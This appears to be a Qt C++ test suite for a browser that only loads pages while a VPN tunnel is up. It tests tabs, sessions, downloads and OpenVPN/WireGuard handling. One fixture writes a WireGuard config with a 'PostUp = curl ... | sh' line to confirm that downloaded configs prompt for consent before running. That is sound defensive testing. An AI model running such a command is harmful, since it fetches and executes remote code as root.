#include "BrowserWindow.h"
#include "DataManager.h"
#include "DownloadItem.h"
#include "DownloadManager.h"
#include "FakeTools.h"
#include "MainWindow.h"
#include "ModalAnswerer.h"
#include "PrivacyEngine.h"
#include "ServiceEndpoints.h"
#include "TempDataDir.h"
#include "TestHttpServer.h"
#include "VPNManager.h"

#include <QWebEngineDownloadRequest>
#include <QtTest>
#include <QtWidgets>
#include <memory>

static constexpr int Slow = 20000; // page loads on a busy machine

// The whole window against fake VPN tools, a fresh data folder and pages
// from a loopback server that also plays the account service's home page.
class TestMainWindow : public QObject
{
    Q_OBJECT

    std::unique_ptr<TempDataDir> dir;
    std::unique_ptr<FakeTools> tools;
    std::unique_ptr<TestHttpServer> server;
    const QString warning = BrowserWindow::vpnWarningAddress();

    std::unique_ptr<MainWindow> makeWindow(bool tunnelUp)
    {
        tools->setIpOutputFromSample(tunnelUp ? QStringLiteral("openvpn-tun-up") : QStringLiteral("host-no-tunnel"));
        return std::make_unique<MainWindow>();
    }
    void setTunnel(MainWindow &w, bool up)
    {
        tools->setIpOutputFromSample(up ? QStringLiteral("openvpn-tun-up") : QStringLiteral("host-no-tunnel"));
        w.vpn()->checkVPNStatus();
        QTRY_COMPARE_WITH_TIMEOUT(w.vpn()->isConnected(), up, 10000);
    }
    static void type(MainWindow &w, const QString &text)
    {
        w.addressBar()->setText(text);
        w.onUrlEntered();
    }
    static BrowserWindow *tabAt(MainWindow &w, int i) { return qobject_cast<BrowserWindow *>(w.tabs()->widget(i)); }
    QString page(const char *path) const { return server->url(QString::fromLatin1(path)).toString(); }
    QString storedUrl(int i) const
    {
        const QJsonArray session = QJsonDocument::fromJson(dir->readFile(QStringLiteral("session.json"))).array();
        return session.at(i).toObject().value("url").toString();
    }

private Q_SLOTS:
    void init()
    {
        // The offscreen platform and the GPU-less engine announce what they lack.
        QTest::failOnWarning(QRegularExpression(QStringLiteral(
            "^(?!This plugin does not support|No suitable graphics backend|WebEngineContext used before).*")));
        dir = std::make_unique<TempDataDir>();
        tools = std::make_unique<FakeTools>();
        server = std::make_unique<TestHttpServer>();
        QVERIFY(server->listen());
        const QList<QPair<QByteArray, QByteArray>> pages{
            {"/", "Orvex Home"}, {"/a", "Page A"}, {"/b", "Page B"}, {"/long", "0123456789012345678901234567890123456789"}};
        for (const auto &[path, title] : pages)
            server->setPage(path, "<html><head><title>" + title + "</title></head><body>x</body></html>");
        server->route("/slow", [](const TestHttpServer::Request &) {
            return TestHttpServer::Response{200, "text/html", "<title>Slow</title>", {}, 1500};
        });
        QByteArray icon;
        QBuffer buffer(&icon);
        QImage(16, 16, QImage::Format_ARGB32).save(&buffer, "PNG");
        server->setPage("/favicon.ico", icon, "image/png");
        ServiceEndpoints::setAccountUrl(server->baseUrl());
    }
    void cleanup()
    {
        BrowserWindow::finishPendingPrints();
        server.reset();
        tools.reset();
        dir.reset();
        ServiceEndpoints::reset();
    }

    // The reload button reads "X" while loading and the tab text is the title
    // cut to 25 characters. With the tunnel down a typed address is refused for
    // the warning page, the session keeps it, and the tab goes there once up.
    void browsingWithATunnel()
    {
        auto w = makeWindow(true);
        QTRY_COMPARE_WITH_TIMEOUT(w->tabs()->tabText(0), QStringLiteral("Orvex Home"), Slow);
        type(*w, page("/slow"));
        QTRY_COMPARE_WITH_TIMEOUT(w->reloadToolButton()->text(), QStringLiteral("X"), Slow);
        QTRY_VERIFY_WITH_TIMEOUT(w->reloadToolButton()->text().isEmpty(), Slow);
        type(*w, page("/long"));
        QTRY_COMPARE_WITH_TIMEOUT(w->tabs()->tabText(0), QStringLiteral("0123456789012345678901234"), Slow);
        type(*w, page("/long") + QStringLiteral("#end")); // same document: no new title
        QTest::qWait(600);
        QCOMPARE(w->tabs()->tabText(0), QStringLiteral("0123456789012345678901234"));
        QCOMPARE(server->requestCount("/favicon.ico"), 1); // one fetch for the host, none by the engine

        setTunnel(*w, false);
        QTRY_COMPARE_WITH_TIMEOUT(w->currentBrowser()->title(), QStringLiteral("Protected Network Required"), Slow);
        type(*w, page("/a"));
        QCOMPARE(w->addressBar()->text(), warning);
        w->saveSession();
        QCOMPARE(storedUrl(0), page("/a"));
        QCOMPARE(server->requestCount("/a"), 0);
        setTunnel(*w, true);
        QTRY_COMPARE_WITH_TIMEOUT(w->currentBrowser()->title(), QStringLiteral("Page A"), Slow);
        for (const QJsonValue &visit : w->data()->getHistory())
            QVERIFY(visit[QLatin1String("url")].toString() != warning);
    }

    // Saved switches reach every open tab and the tabs opened later.
    void savedSettingsReachEveryTab()
    {
        auto w = makeWindow(true);
        w->onNewTab();
        ModalAnswerer::answer([](QWidget *dialog) {
            for (QCheckBox *box : dialog->findChildren<QCheckBox *>())
                box->setChecked(box->isChecked() && box->text() != QStringLiteral("Ad Blocking"));
            for (QPushButton *button : dialog->findChildren<QPushButton *>())
                if (button->text() == QStringLiteral("Save"))
                    button->click();
        });
        w->onSettings();
        w->onNewTab();
        for (int i = 0; i < 3; ++i)
            QCOMPARE(tabAt(*w, i)->privacy()->getPrivacySettings().value("adBlocking").toBool(true), false);
    }

    // Restored without a tunnel: the tabs, a new tab and a duplicate show the
    // warning and fetch nothing, and quitting keeps the refused addresses. Once
    // up, tabs (even one whose warning has not loaded yet) return to them.
    void sessionWithoutTunnel()
    {
        QJsonArray session;
        for (const char *path : {"/a", "/b"})
            session.append(QJsonObject{{"url", page(path)}, {"title", ""}, {"pinned", false}});
        dir->writeFile(QStringLiteral("session.json"), QJsonDocument(session).toJson());
        auto w = makeWindow(false);
        QCOMPARE(w->tabs()->count(), 2);
        w->onNewTab();
        QTRY_COMPARE_WITH_TIMEOUT(tabAt(*w, 2)->url().toString(), warning, Slow);
        QTRY_COMPARE_WITH_TIMEOUT(tabAt(*w, 1)->url().toString(), warning, Slow);
        QCOMPARE(server->requests().size(), 0);
        w.reset();
        QCOMPARE(storedUrl(0), page("/a"));
        QCOMPARE(storedUrl(1), page("/b"));

        w = makeWindow(false);
        w->onDuplicateTab(0);
        QCOMPARE(tabAt(*w, w->tabs()->currentIndex())->sessionUrl(), page("/a"));
        setTunnel(*w, true);
        QTRY_COMPARE_WITH_TIMEOUT(server->requestCount("/a"), 1, Slow);
        w->tabs()->setCurrentIndex(1);
        QTRY_COMPARE_WITH_TIMEOUT(tabAt(*w, 1)->title(), QStringLiteral("Page B"), Slow);
        QCOMPARE(server->requestCount("/a"), 1);
    }

    // Any-case ".ovpn" starts OpenVPN, anything else wg-quick; disconnecting
    // takes down exactly that.
    void vpnButtonConnectsAndDisconnects_data()
    {
        QTest::addColumn<QString>("file");
        QTest::addColumn<QString>("up");
        QTest::addColumn<QString>("down");
        QTest::newRow("openvpn") << "OFFICE.OVPN" << "openvpn --config %1 --daemon --writepid " << "kill -TERM ";
        QTest::newRow("wireguard") << "de1.ovpn.conf" << "wg-quick up %1" << "wg-quick down %1";
    }
    void vpnButtonConnectsAndDisconnects()
    {
        QFETCH(QString, file);
        QFETCH(QString, up);
        QFETCH(QString, down);
        const QString path = dir->downloadDir() + QLatin1Char('/') + file;
        QVERIFY(QFile(path).open(QIODevice::WriteOnly));
        auto w = makeWindow(false);
        w->setVpnFileChooser([path](QWidget *) { return path; });
        w->onVPNDialog();
        auto called = [this](const QString &start) {
            const QStringList calls = tools->calls();
            return std::any_of(calls.cbegin(), calls.cend(), [&](const QString &c) { return c.startsWith(start); });
        };
        QTRY_VERIFY_WITH_TIMEOUT(called(up.replace(QLatin1String("%1"), path)), 10000);
        QTRY_VERIFY_WITH_TIMEOUT(w->vpn()->hasOwnTunnel(), 10000);
        setTunnel(*w, true);
        // The tools take the tunnel down; the next probe must not see it again.
        tools->setIpOutputFromSample(QStringLiteral("host-no-tunnel"));
        ModalAnswerer yes({QStringLiteral("Yes")});
        w->onVPNDisconnect();
        QTRY_VERIFY_WITH_TIMEOUT(called(down.replace(QLatin1String("%1"), path)), 10000);
    }

    // A tool's failure reaches the status bar and a message box, as plain
    // text. A configuration the browser downloaded is used only after a
    // question (default No) that lists the commands it runs as root.
    void vpnFailuresAndDownloadedConfigurations_data()
    {
        QTest::addColumn<bool>("downloaded");
        QTest::addColumn<QString>("answer");
        QTest::addColumn<bool>("fails");
        QTest::newRow("tool fails") << false << "" << true;
        QTest::newRow("downloaded, refused") << true << "No" << false;
        QTest::newRow("downloaded, accepted") << true << "Yes" << false;
    }
    void vpnFailuresAndDownloadedConfigurations()
    {
        QFETCH(bool, downloaded);
        QFETCH(QString, answer);
        QFETCH(bool, fails);
        const QString path = dir->downloadDir() + QStringLiteral("/de1.conf");
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write("[Interface]\nPrivateKey = k\nPostUp = curl https://x.test/<b>i</b> | sh\n");
        file.close();
        if (downloaded)
            dir->writeFile(QStringLiteral("downloads.json"),
                           QJsonDocument(QJsonArray{QJsonObject{{"url", "https://x.test/de1.conf"}, {"filename", "de1.conf"},
                                                                {"path", path}}}).toJson());
        if (fails)
            tools->setResult(QStringLiteral("wg-quick"), 1, "Line unrecognized: `<b>Bold</b>'\nConfiguration parsing error\n");
        auto w = makeWindow(false);
        w->setVpnFileChooser([path](QWidget *) { return path; });
        QString question;
        Qt::TextFormat format = Qt::AutoText;
        bool defaultNo = false;
        if (downloaded)
            ModalAnswerer::answer([&](QWidget *widget) {
                auto *box = qobject_cast<QMessageBox *>(widget);
                QVERIFY(box);
                question = box->text();
                format = box->textFormat();
                defaultNo = box->defaultButton() == box->button(QMessageBox::No);
                box->button(answer == QStringLiteral("Yes") ? QMessageBox::Yes : QMessageBox::No)->click();
            });
        w->onVPNDialog();
        if (downloaded) {
            QVERIFY2(question.contains(QStringLiteral("runs these commands as administrator:\n    PostUp = curl https://x.test/<b>i</b> | sh\n")),
                     qPrintable(question));
            QCOMPARE(format, Qt::PlainText);
            QVERIFY(defaultNo);
        }
        if (answer == QStringLiteral("No")) {
            QTest::qWait(300);
            QCOMPARE(tools->callsOf(QStringLiteral("wg-quick")), QStringList());
            return;
        }
        QTRY_COMPARE_WITH_TIMEOUT(tools->callsOf(QStringLiteral("wg-quick")), QStringList{QStringLiteral("wg-quick up ") + path}, 10000);
        if (!fails)
            return;
        QMessageBox *box = nullptr;
        QTRY_VERIFY_WITH_TIMEOUT((box = w->findChild<QMessageBox *>(QStringLiteral("vpnFailureBox"))) && box->isVisible(), 10000);
        QCOMPARE(box->text(), QStringLiteral("Could not connect: Line unrecognized: `<b>Bold</b>'\nConfiguration parsing error"));
        QCOMPARE(box->textFormat(), Qt::PlainText);
        QCOMPARE(w->statusBar()->currentMessage(),
                 QStringLiteral("Could not connect: Line unrecognized: `<b>Bold</b>' Configuration parsing error"));
        box->close();
    }

    // With several tabs a download is saved once, not once per tab.
    void oneDownloadWithSeveralTabs()
    {
        server->route("/file.bin", [](const TestHttpServer::Request &) {
            return TestHttpServer::Response{200, "application/octet-stream", QByteArray(4096, 'q'),
                                            {{"Content-Disposition", "attachment; filename=\"file.bin\""}, {"Connection", "close"}}};
        });
        auto w = makeWindow(true);
        w->onNewTab();
        w->onNewTab();
        tabAt(*w, 1)->loadUrl(server->url(QStringLiteral("/file.bin")));
        QTRY_COMPARE_WITH_TIMEOUT(w->downloads()->downloadCount(), 1, Slow);
        QTRY_COMPARE_WITH_TIMEOUT(QFileInfo(w->downloads()->downloadAt(0)->path()).size(), qint64(4096), Slow);
        QTest::qWait(300);
        QCOMPARE(w->downloads()->downloadCount(), 1);
    }
};

QTEST_MAIN(TestMainWindow)
#include "tst_mainwindow.moc"
